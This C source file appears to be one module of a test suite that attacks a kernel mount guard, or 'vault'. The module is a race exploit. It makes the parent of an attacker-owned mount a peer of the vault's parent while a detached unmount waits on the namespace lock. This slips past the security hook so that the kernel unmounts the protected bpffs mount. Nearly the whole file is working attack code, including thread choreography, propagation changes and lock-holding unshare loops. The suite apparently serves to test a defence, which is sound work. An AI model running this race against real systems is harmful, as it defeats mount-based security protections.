/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * The guard looks at the mounts above the vault before the kernel takes its
 * lock, and no hook is asked once it has it.  So: have an unmount of a mount of
 * the attacker's pass the hook, make its parent a peer of the vault's parent
 * while it waits for the lock, and the kernel unmounts the vault along with it.
 *
 *	vault	in kdevtmpfs's namespace: shares the vault's parent, and clones
 *		it, which makes the clone a peer
 *	join	in the attacker's: puts the clone in its own namespace, and a
 *		bind mount of the same folder into the clone's group
 *	main	unmounts what is mounted on that
 *	copy	copies its namespace time and again, which holds the lock
 *
 * Where there is no vault, one of the attacker's own shows that it works.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/magic.h>
#include <linux/mount.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <time.h>
#include <unistd.h>

#include "vault.h"

#define ROUNDS_S  20
#define TARGET	  "/tmp/race-target" /* a bind mount of /dev */
#define CLONE	  "/tmp/race-clone"
#define SET_GROUP 0x00000100 /* MOVE_MOUNT_SET_GROUP, 5.15 */

enum step { IDLE, SHARE, SHARED, JOINED, QUIT };

static struct {
	const struct scene *scene;
	atomic_int step, copying;
	int beneath, target, clone_point, clone;
	int group_error;
	bool joined;
} race;

static long set_propagation(int fd, uint64_t propagation)
{
	struct mount_attr attr = { .propagation = propagation };

	return syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr,
		       sizeof(attr));
}

static int open_tree_at(int folder, const char *path, unsigned flags)
{
	return (int)syscall(SYS_open_tree, folder, path,
			    flags | OPEN_TREE_CLOEXEC);
}

static int wait_for(int one, int other)
{
	int now;

	while ((now = atomic_load(&race.step)) != one && now != other)
		sched_yield();
	return now;
}

/* Another thread may be two steps further by now. */
static void leave(int step)
{
	while (atomic_load(&race.step) == step)
		sched_yield();
}

/* From outside, what is on top there. */
static bool is_there(void)
{
	char path[64];
	struct statfs system;

	snprintf(path, sizeof(path), "/proc/%d/root/..", race.scene->kdevtmpfs);
	return !statfs(path, &system) && system.f_type == BPF_FS_MAGIC;
}

static void *vault_thread(void *unused)
{
	char lower[32];

	snprintf(lower, sizeof(lower), "%d/root", race.scene->kdevtmpfs);
	if (unshare(CLONE_FS) || !vault_enter(race.scene))
		return unused;
	race.beneath = open_tree_at(AT_FDCWD, lower, 0);
	atomic_store(&race.step, IDLE);
	while (wait_for(SHARE, QUIT) == SHARE) {
		set_propagation(race.beneath, MS_SHARED);
		race.clone = open_tree_at(race.beneath, "",
					  OPEN_TREE_CLONE | AT_EMPTY_PATH);
		atomic_store(&race.step, SHARED);
		leave(SHARED);
		leave(JOINED);
		set_propagation(race.beneath, MS_PRIVATE);
	}
	set_propagation(race.beneath, MS_PRIVATE);
	return unused;
}

static void *join_thread(void *unused)
{
	while (wait_for(SHARED, QUIT) == SHARED) {
		syscall(SYS_move_mount, race.clone, "", race.clone_point, "",
			MOVE_MOUNT_F_EMPTY_PATH | MOVE_MOUNT_T_EMPTY_PATH);
		if (!syscall(SYS_move_mount, race.clone, "", race.target, "",
			     SET_GROUP | MOVE_MOUNT_F_EMPTY_PATH |
				     MOVE_MOUNT_T_EMPTY_PATH))
			race.joined = true;
		else
			race.group_error = errno;
		atomic_store(&race.step, JOINED);
		leave(JOINED);
	}
	return unused;
}

static void *copy_thread(void *unused)
{
	while (atomic_load(&race.copying))
		unshare(CLONE_NEWNS);
	return unused;
}

/* Until all that was joined is apart again. */
static void tidy(void)
{
	close(race.clone);
	set_propagation(race.target, MS_PRIVATE);
	for (int i = 0; i < 100 && umount2(CLONE, MNT_DETACH); i++)
		usleep(1000);
}

/* @delay is what the others are given before the unmount. */
static void try_once(unsigned delay)
{
	if (mount("tmpfs", TARGET, "tmpfs", 0, NULL))
		return;
	atomic_store(&race.step, SHARE);
	if (delay == ~0U)
		wait_for(JOINED, QUIT);
	for (volatile unsigned i = 0; delay != ~0U && i < delay; i++)
		;
	umount2(TARGET, MNT_DETACH);
	wait_for(JOINED, QUIT);
	atomic_store(&race.step, IDLE);
	tidy();
	umount2(TARGET, MNT_DETACH);
}

static int set_up(const struct scene *scene)
{
	race.scene = scene;
	mkdir(TARGET, 0755);
	mkdir(CLONE, 0755);
	if (unshare(CLONE_NEWNS) ||
	    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) ||
	    mount("/dev", TARGET, NULL, MS_BIND, NULL))
		return -1;
	/* An fd of the bind mount itself, which a path no longer leads to. */
	race.target = open_tree_at(AT_FDCWD, TARGET, 0);
	race.clone_point = open(CLONE, O_PATH | O_CLOEXEC);
	return race.target < 0 ? -1 : 0;
}

static int own_vault(const struct scene *scene)
{
	if (!vault_enter(scene) || mount("bpf", "/", "bpf", 0, NULL))
		return -1;
	return 0;
}

static int run_race(const struct scene *scene)
{
	pthread_t vault, join, copy;
	bool own = false;
	unsigned tries = 0;
	int pid;

	race.scene = scene;
	if (!is_there()) {
		pid = fork();
		if (pid == 0)
			_exit(own_vault(scene) ? 1 : 0);
		own = true;
		usleep(200000);
	}
	if (set_up(scene) || !is_there())
		return NOT_SET_UP;
	atomic_store(&race.step, JOINED);
	atomic_store(&race.copying, 1);
	pthread_create(&vault, NULL, vault_thread, NULL);
	while (atomic_load(&race.step) != IDLE)
		usleep(1000);
	pthread_create(&join, NULL, join_thread, NULL);
	if (!own)
		pthread_create(&copy, NULL, copy_thread, NULL);
	for (time_t end = time(NULL) + ROUNDS_S; time(NULL) < end && is_there();
	     tries++)
		try_once(own ? ~0U : tries % 64 * 100);
	say("%u tries, groups %s (%s), the vault is %s", tries,
	    race.joined ? "joined" : "not joined",
	    strerrorname_np(race.group_error), is_there() ? "there" : "gone");
	atomic_store(&race.copying, 0);
	atomic_store(&race.step, QUIT);
	/* One of its own that goes without a peer shows nothing of the race. */
	if (!is_there() && (race.joined || !own))
		return THROUGH;
	return race.joined ? EPERM : NOT_HERE;
}

const struct attack umount_race_attacks[] = {
	ATTACK(85, "umount-race",
	       "a peer of the vault's parent while an unmount waits for its lock",
	       AIM_CALL, run_race, .traits = SLOW),
	{ 0 },
};
